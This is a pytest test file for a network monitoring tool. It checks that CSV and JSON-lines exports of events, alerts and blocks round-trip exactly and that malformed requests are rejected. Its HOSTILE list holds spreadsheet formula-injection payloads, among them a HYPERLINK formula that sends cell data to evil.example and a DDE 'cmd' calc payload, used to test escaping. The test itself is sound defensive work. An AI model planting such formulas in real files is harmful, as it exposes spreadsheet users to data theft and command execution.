"""Exports from the API: every list as CSV or JSON lines (``?format=`` or ``Accept:``), read back equal to the
list it came from, hostile cells included; bad requests are 4xx before a download starts. Every engine."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from typing import Any

import orjson
import pytest

from netwarden.records import Alert, Factor, Severity
from netwarden.report.export import BOM, read_csv
from netwarden.store import alerts as alert_store
from netwarden.store.database import Database
from tests.respond.test_blocks_web import App
from tests.web.conftest import _fast_argon2  # noqa: F401 - an autouse fixture

NOW = datetime.now(timezone.utc).replace(microsecond=0)
# what a spreadsheet would run or mangle; the export must carry each back unchanged
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\tTAB", "\rCR", "'quoted", "multi\nline, \"quoted\"", "ünïcödé ✓", ""]


def _event(i: int, **fields: Any) -> str:
    base = {"timestamp": (NOW - timedelta(minutes=i)).isoformat().replace("+00:00", "Z"),
            "source_kind": "access_log", "src_ip": f"192.0.2.{i % 20}", "src_port": 40000 + i,
            "dst_ip": "10.0.0.5", "dst_port": 443 if i % 2 else 80, "transport": "tcp", "app_protocol": "http",
            "http_method": "GET", "url": f"/page/{i}", "http_status": 200 if i % 3 else 404,
            "user_agent": HOSTILE[i % len(HOSTILE)], "user": HOSTILE[(i + 3) % len(HOSTILE)] or None,
            "raw": f"raw line {i}", "bytes_out": 100 + i, "duration": i / 7}
    base.update(fields)
    return json.dumps(base)


@pytest.fixture
def web(db: Database) -> Iterator[App]:
    app = App(db)
    token = app.token("analyst")
    lines = [_event(i) for i in range(130)] + ["=not json", "@{\"bad\": 1}"]
    answer = app.anonymous().post("/api/v1/intake", content="\n".join(lines).encode(),
                                  headers={"Authorization": f"Bearer {token}"})
    assert answer.status_code == 200, answer.text
    yield app
    app.close()


def as_cell(value: Any) -> str:
    """A JSON value as the text its CSV cell holds."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (dict, list)):
        return orjson.dumps(value).decode()
    return str(value)


def same_rows(csv_rows: list[dict[str, str]], json_rows: list[dict[str, Any]], columns: list[str]) -> None:
    assert list(csv_rows[0]) == columns if csv_rows else True
    assert len(csv_rows) == len(json_rows)
    for got, want in zip(csv_rows, json_rows, strict=True):
        assert got == {c: as_cell(want.get(c)) for c in columns}


def every_page(client, path: str, key: str, **params: Any) -> list[dict[str, Any]]:  # type: ignore[no-untyped-def]
    rows: list[dict[str, Any]] = []
    cursor = None
    for _ in range(100):
        answer = client.get(path, params={**params, "limit": 37, **({"cursor": cursor} if cursor else {})}).json()
        rows += answer[key]
        cursor = answer.get("next_cursor")
        if not cursor:
            return rows
    raise AssertionError("too many pages")


@pytest.mark.parametrize("params", [{}, {"src": "192.0.2.0/29"}, {"address": "192.0.2.7", "order": "oldest"},
                                    {"port": 443, "status": 404}, {"protocol": "tcp", "kind": "access_log"},
                                    {"q": "page/1"}, {"since": (NOW - timedelta(minutes=50)).isoformat(),
                                                      "until": (NOW - timedelta(minutes=10)).isoformat()}])
def test_events_csv_equals_the_list_with_every_filter(web: App, params: dict[str, Any]) -> None:
    client = web.client("viewer")
    listed = every_page(client, "/api/v1/events", "events", **params)
    assert listed
    answer = client.get("/api/v1/events", params={**params, "format": "csv"})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    same_rows(read_csv(answer.content), listed, list(listed[0]))


def test_hostile_cells_are_escaped_and_come_back_unchanged(web: App) -> None:
    client = web.client("viewer")
    answer = client.get("/api/v1/events", headers={"Accept": "text/csv"}, params={"bom": "true"})
    assert answer.content.startswith(BOM.encode())
    lines = answer.content.decode("utf-8-sig").splitlines()
    for line in lines[1:]:  # no cell (quoted or not) starts a formula
        for danger in ("=", "+", "-", "@"):
            assert f",{danger}" not in line and f',"{danger}' not in line
    agents = {r["user_agent"] for r in read_csv(answer.content)}
    assert set(HOSTILE) <= agents


def test_jsonl_by_parameter_and_by_accept(web: App) -> None:
    client = web.client("viewer")
    listed = every_page(client, "/api/v1/events", "events", port=80)
    for answer in (client.get("/api/v1/events", params={"port": 80, "format": "jsonl"}),
                   client.get("/api/v1/events", params={"port": 80}, headers={"Accept": "application/x-ndjson"})):
        assert answer.headers["content-type"].startswith("application/x-ndjson")
        assert [json.loads(line) for line in answer.text.splitlines()] == listed


def test_alerts_incidents_blocks_quarantine_and_analysis_export(web: App) -> None:
    with web.db.engine.begin() as conn:
        for i, target in enumerate(HOSTILE):
            alert_store.save_alert(conn, Alert(
                kind="web_attack", subkind="sqli", severity=Severity.HIGH, confidence=0.5 + i / 100,
                factors=[Factor("signature", 0.5, target)], source=f"198.51.100.{i}", target=target,
                first_seen=NOW, last_seen=NOW - timedelta(seconds=i), count=i + 1, evidence={"matched": target},
                recommendation=target, detector="web_attack"))
            alert_store.save_incident(conn, {"source": f"198.51.100.{i}", "severity": "high", "status": "new",
                                             "kinds": ["port_scan", "web_attack"], "alert_count": i + 1,
                                             "summary": target, "first_seen": NOW, "last_seen": NOW})
    analyst = web.client("analyst")
    for i in range(3):
        assert analyst.post("/api/v1/blocks", json={"address": f"203.0.113.{10 + i}", "duration": "1h",
                                                    "reason": HOSTILE[i]}).status_code == 201
    viewer = web.client("viewer")
    cases = [("/api/v1/alerts", "alerts", {"limit": 500}), ("/api/v1/incidents", "incidents", {"limit": 500}),
             ("/api/v1/blocks", "blocks", {"state": "all"}), ("/api/v1/quarantine", "lines", {"limit": 500})]
    for path, key, params in cases:
        listed = viewer.get(path, params=params).json()[key]
        assert listed, path
        answer = viewer.get(path, params={**params, "format": "csv"})
        assert answer.status_code == 200, (path, answer.text)
        same_rows(read_csv(answer.content), listed, list(listed[0]))
    talkers = viewer.get("/api/v1/analysis/talkers", params={"minutes": 600}).json()["rows"]
    answer = viewer.get("/api/v1/analysis/talkers", params={"minutes": 600, "format": "csv"})
    assert [r["address"] for r in read_csv(answer.content)] == [t["address"] for t in talkers]
    ports = viewer.get("/api/v1/analysis", params={"minutes": 600, "format": "csv", "table": "protocols.ports"})
    assert {r["port"] for r in read_csv(ports.content)} == {"80", "443"}


def test_bad_export_requests_are_4xx(web: App) -> None:
    client = web.client("viewer")
    assert client.get("/api/v1/events", params={"format": "xlsx"}).status_code == 422
    bad = client.get("/api/v1/events", params={"format": "csv", "src": "not-an-address"})
    assert bad.status_code == 400 and "src" in bad.json()["detail"]
    bad = client.get("/api/v1/events", params={"format": "csv", "cursor": "garbage"})
    assert bad.status_code == 400 and "cursor" in bad.json()["detail"]
    bad = client.get("/api/v1/analysis", params={"format": "csv", "table": "nope"})
    assert bad.status_code == 400 and "table" in bad.json()["detail"]
    assert web.anonymous().get("/api/v1/events", params={"format": "csv"}).status_code == 401
